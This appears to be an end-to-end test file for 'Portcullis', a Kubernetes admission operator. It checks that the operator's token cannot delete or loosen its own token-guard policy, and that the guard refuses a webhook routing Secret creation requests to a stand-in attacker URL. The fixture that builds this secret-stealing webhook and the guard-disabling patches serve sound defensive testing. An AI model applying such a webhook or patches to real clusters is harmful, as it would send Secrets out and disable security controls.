/**
 * Issue 49, attack 7: with native enforcement installed as documented (deploy/'s RBAC and token
 * guard, then deploy/optional/native-enforcement.yaml), the serving pods' token (the operator's
 * ServiceAccount, from the API server's TokenRequest API) can neither remove nor edit the token
 * guard, nor write any admission policy, so the guard still refuses a webhook sent outside the
 * cluster; the native identity (ServiceAccount portcullis-native, the native process run
 * in-process as it) writes a suite's native policy, which the API server enforces, leaves a name
 * someone else holds (the serving operator reports the Conflict), and puts the guard back when an
 * admin deletes it, with a Warning Event; `node src/main.ts --role=native` runs that process alone,
 * with no admission port. Owns the native-e2e-identity namespace and its suites (and the held
 * policy); deletes the optional file's Deployment and NetworkPolicy it applied (no node runs them
 * here), leaves its RBAC, which other files' checks do not depend on.
 */
import { expect } from 'chai';
import * as k8s from '@kubernetes/client-node';
import { cluster, kubectl, operatorKubeConfig, serviceAccountKubeConfig, OPERATOR_NAMESPACE } from '../support/cluster.ts';
import { startTestOperator, waitForSuiteValidation } from '../support/operator.ts';
import { spawnOperator } from '../support/process.ts';
import { freePort } from '../../src/local/ports.ts';
import net from 'node:net';
import { createSuite, deleteSuite, getSuite, waitForCondition } from '../support/suites.ts';
import { ensureNamespace, refusal } from '../support/objects.ts';
import { eventually } from '../support/wait.ts';
import { connect, getObject, type Kube, type KubeObject } from '../../src/apiserver/client.ts';
import { NATIVE_NAME, TOKEN_GUARD, webhookFullName } from '../../src/api/names.ts';
import { nativeRefusal } from '../../src/native/dry-run.ts';
import type { AdmissionSuite, WebhookSpec } from '../../src/api/types.ts';
import type { Operator } from '../../src/manager/operator.ts';

const NS = 'native-e2e-identity';
const SUITE = 'native-identity';
/** A suite whose native policy's name someone else already holds. */
const HELD = 'native-identity-held';
const MESSAGE = 'a ConfigMap here may not say forbidden';
const OURS = { 'app.kubernetes.io/managed-by': 'portcullis' };
const header = (kind: 'ValidatingAdmissionPolicy' | 'ValidatingAdmissionPolicyBinding', name: string) => ({ apiVersion: 'admissionregistration.k8s.io/v1', kind, metadata: { name } });
const webhook: WebhookSpec = {
  name: 'deny',
  type: 'Validating',
  enforcement: 'Native',
  rules: [{ operations: ['CREATE', 'UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['configmaps'] }],
  namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': NS } },
  validations: [{ expression: "!has(object.data) || !('forbidden' in object.data)", message: MESSAGE }],
};
/** A webhook sent to an address outside the cluster, named and labelled as the operator's own. */
const outside = (name: string): KubeObject => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'ValidatingWebhookConfiguration',
  metadata: { name, labels: OURS },
  webhooks: [
    {
      name: 'steal.example.com',
      clientConfig: { url: 'https://attacker.example.invalid/' },
      rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] }],
      failurePolicy: 'Ignore',
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
    },
  ],
});

/** The write's refusal message, or 'allowed'. */
const attempt = async (call: () => Promise<unknown>): Promise<string> => (await refusal(call))?.message ?? 'allowed';

describe("native enforcement's writes are not the serving pods' (issue 49, attack 7)", function () {
  this.timeout(300_000);
  let asOperator: Kube;
  let operator: Operator | undefined;
  const admin = () => cluster().kube;

  before(async function () {
    for (const file of ['deploy/00-namespace.yaml', 'deploy/02-rbac.yaml', 'deploy/04-token-guard.yaml', 'deploy/optional/native-enforcement.yaml']) {
      const result = await kubectl(['apply', '--server-side', '--force-conflicts', '-f', file]);
      expect(result.code, result.stderr).to.equal(0);
    }
    // Installed as documented; the pods themselves are run in-process below (no node here).
    await kubectl(['delete', '--ignore-not-found', '-n', OPERATOR_NAMESPACE, 'deployment/portcullis-native', 'networkpolicy/portcullis-native']);
    await ensureNamespace(NS);
    asOperator = connect(await operatorKubeConfig());
  });

  after(async function () {
    await deleteSuite(SUITE);
    await deleteSuite(HELD);
    await operator?.stop();
    await admin()
      .objects.delete(header('ValidatingAdmissionPolicy', webhookFullName(HELD, 'deny')))
      .catch(() => undefined);
    await admin()
      .admissionregistration.deleteValidatingWebhookConfiguration({ name: 'portcullis-steal' })
      .catch(() => undefined);
  });

  it("the serving pods' token cannot delete or edit the token guard, nor write an admission policy, so a webhook sent outside stays refused", async function () {
    const deleted = await attempt(() => asOperator.objects.delete(header('ValidatingAdmissionPolicy', TOKEN_GUARD)));
    expect(deleted).to.contain('cannot delete resource "validatingadmissionpolicies"');
    expect(await attempt(() => asOperator.objects.delete(header('ValidatingAdmissionPolicyBinding', TOKEN_GUARD)))).to.contain('cannot delete resource "validatingadmissionpolicybindings"');
    const loosened = { ...header('ValidatingAdmissionPolicyBinding', TOKEN_GUARD), spec: { validationActions: ['Audit'] } };
    expect(await attempt(() => asOperator.objects.patch(loosened, undefined, undefined, 'thief', undefined, k8s.PatchStrategy.MergePatch))).to.contain('cannot patch resource "validatingadmissionpolicybindings"');
    const emptied = { ...header('ValidatingAdmissionPolicy', TOKEN_GUARD), spec: { validations: [{ expression: 'true' }] } };
    expect(await attempt(() => asOperator.objects.patch(emptied, undefined, undefined, 'thief', undefined, k8s.PatchStrategy.MergePatch))).to.contain('cannot patch resource "validatingadmissionpolicies"');
    const policy = {
      ...header('ValidatingAdmissionPolicy', 'w.native-identity-thief.admission.portcullis.dev'),
      metadata: { name: 'w.native-identity-thief.admission.portcullis.dev', labels: OURS },
      spec: { matchConstraints: { resourceRules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] }] }, validations: [{ expression: 'false' }] },
    };
    expect(await attempt(() => asOperator.objects.create(policy))).to.contain('cannot create resource "validatingadmissionpolicies"');
    const binding = { ...header('ValidatingAdmissionPolicyBinding', TOKEN_GUARD + '-off'), spec: { policyName: TOKEN_GUARD, validationActions: ['Audit'] } };
    expect(await attempt(() => asOperator.objects.create(binding))).to.contain('cannot create resource "validatingadmissionpolicybindings"');

    // The guard is whole, and refuses what the token would do next.
    expect((await getObject<KubeObject & { spec: { validationActions: string[] } }>(admin(), header('ValidatingAdmissionPolicyBinding', TOKEN_GUARD)))?.spec.validationActions).to.deep.equal(['Deny']);
    const registered = await eventually(
      async () => {
        const answer = await attempt(() => asOperator.objects.create(outside('portcullis-steal')));
        if (answer === 'allowed') {
          await admin().admissionregistration.deleteValidatingWebhookConfiguration({ name: 'portcullis-steal' });
          throw new Error('allowed: the guard is not loaded yet');
        }
        return answer;
      },
      { what: 'the token guard to refuse a webhook sent outside the cluster' },
    );
    expect(registered).to.contain('may only register webhooks served by Services named portcullis-* in portcullis-system');
  });

  it("the native identity writes a suite's native policy and binding, which the API server enforces; the serving token dry-runs one", async function () {
    operator = await startTestOperator({ nativeEnforcement: true }, {}, cluster().kubeConfig, await serviceAccountKubeConfig(OPERATOR_NAMESPACE, NATIVE_NAME, '(is deploy/optional/native-enforcement.yaml applied?)'));
    await waitForSuiteValidation(operator);
    await createSuite(SUITE, { failurePolicy: 'Fail', webhooks: [webhook] });
    const ready = await waitForCondition(SUITE, 'Ready', 'True');
    const name = webhookFullName(SUITE, 'deny');
    expect(ready.status?.webhooks).to.deep.equal([{ name, type: 'Validating', enforcement: 'Native' }]);
    for (const kind of ['ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding'] as const) {
      const object = await getObject<KubeObject & { metadata: { managedFields?: { manager?: string }[] } }>(admin(), header(kind, name));
      expect(object, kind).to.not.equal(undefined);
    }
    const denied = await eventually(
      async () => (await refusal(() => admin().core.createNamespacedConfigMap({ namespace: NS, body: { metadata: { generateName: 'cm-' }, data: { forbidden: 'x' } } }))) ?? Promise.reject(new Error('admitted')),
      { what: 'the native policy to deny' },
    );
    expect(denied.message).to.contain(`ValidatingAdmissionPolicy '${name}' with binding '${name}' denied request: ${MESSAGE}`);

    // The serving token's one write on admission policies: a dry run, which gives the API server's word.
    const suite = (await admin().custom.getClusterCustomObject({ group: 'admission.portcullis.dev', version: 'v1alpha1', plural: 'admissionsuites', name: SUITE })) as AdmissionSuite;
    const bound: WebhookSpec = { ...webhook, validations: [{ expression: "cel.bind(d, has(object.data) ? object.data : {}, !('forbidden' in d))", message: MESSAGE }] };
    const refused = await eventually(async () => nativeRefusal(asOperator, { namespace: OPERATOR_NAMESPACE }, suite, bound), { what: 'the dry-run policy to be made' });
    expect(refused).to.match(/ValidatingAdmissionPolicy.admissionregistration.k8s.io "deny\.native-identity\.admission\.portcullis\.dev" is invalid: .*undeclared reference to 'cel'/);
    expect(await nativeRefusal(asOperator, { namespace: OPERATOR_NAMESPACE }, suite, webhook)).to.equal(undefined);

    // A name someone else holds: never taken over by the native process, reported by the serving operator.
    const held = webhookFullName(HELD, 'deny');
    await admin().objects.create({
      ...header('ValidatingAdmissionPolicy', held),
      spec: { matchConstraints: { resourceRules: [{ operations: ['CREATE'], apiGroups: ['theirs.example.com'], apiVersions: ['v1'], resources: ['gadgets'] }] }, validations: [{ expression: 'true' }] },
    });
    await createSuite(HELD, { failurePolicy: 'Fail', webhooks: [webhook] });
    const conflict = await eventually(
      async () => {
        const ready = (await getSuite(HELD))?.status?.conditions?.find((c) => c.type === 'Ready');
        if (ready?.reason !== 'Conflict') throw new Error(`Ready is ${ready?.status} (${ready?.reason}: ${ready?.message})`);
        return ready;
      },
      { what: `suite ${HELD} to report the Conflict over the held name` },
    );
    expect(conflict.message).to.contain(`ValidatingAdmissionPolicy ${held} exists and is not managed by Portcullis`);
    expect((await getObject<KubeObject & { metadata: { labels?: Record<string, string> } }>(admin(), header('ValidatingAdmissionPolicy', held)))?.metadata.labels).to.equal(undefined);
  });

  it('the native process puts the token guard back when it is deleted, with a Warning Event', async function () {
    const events = cluster().kubeConfig.makeApiClient(k8s.EventsV1Api);
    for (const kind of ['ValidatingAdmissionPolicyBinding', 'ValidatingAdmissionPolicy'] as const) await admin().objects.delete(header(kind, TOKEN_GUARD));
    await eventually(
      async () => {
        for (const kind of ['ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding'] as const) {
          if (!(await getObject(admin(), header(kind, TOKEN_GUARD)))) throw new Error(`the ${kind} is not back`);
        }
      },
      { what: "the token guard's policy and binding to be put back" },
    );
    const warned = await eventually(
      async () => {
        const list = await events.listNamespacedEvent({ namespace: 'default', fieldSelector: 'reason=TokenGuardRestored' });
        const kinds = list.items.filter((e) => e.type === 'Warning' && e.regarding?.name === TOKEN_GUARD).map((e) => e.regarding!.kind);
        if (!kinds.includes('ValidatingAdmissionPolicy') || !kinds.includes('ValidatingAdmissionPolicyBinding')) throw new Error(`Events for ${kinds.join(', ') || 'nothing'}`);
        return list.items[0]!;
      },
      { what: 'the TokenGuardRestored Warning Events' },
    );
    expect(warned.note).to.contain('was deleted and has been put back');
    // And it guards again.
    await eventually(
      async () => {
        const answer = await attempt(() => asOperator.objects.create(outside('portcullis-steal')));
        if (answer === 'allowed') await admin().admissionregistration.deleteValidatingWebhookConfiguration({ name: 'portcullis-steal' });
        expect(answer).to.contain('may only register webhooks served by Services named portcullis-* in portcullis-system');
      },
      { what: 'the restored guard to refuse a webhook sent outside the cluster' },
    );
  });

  it("the image's entry point with --role=native runs only that: ready on its health port, nothing on the admission port", async function () {
    const servingPort = await freePort();
    const native = await spawnOperator({ servingPort, metricsPort: await freePort(), extra: ['--role=native'] });
    try {
      expect(native.output()).to.contain('Portcullis is ready: native enforcement only, no admission endpoint');
      await eventually(async () => expect((await fetch(`http://127.0.0.1:${native.metricsPort}/readyz`)).status).to.equal(200), { what: 'the native process to be ready' });
      const connected = await new Promise<boolean>((resolve) => {
        const socket = net.connect(servingPort, '127.0.0.1', () => (socket.destroy(), resolve(true)));
        socket.on('error', () => resolve(false));
      });
      expect(connected, 'something listens on the admission port').to.equal(false);
    } finally {
      await native.kill();
    }
  });
});
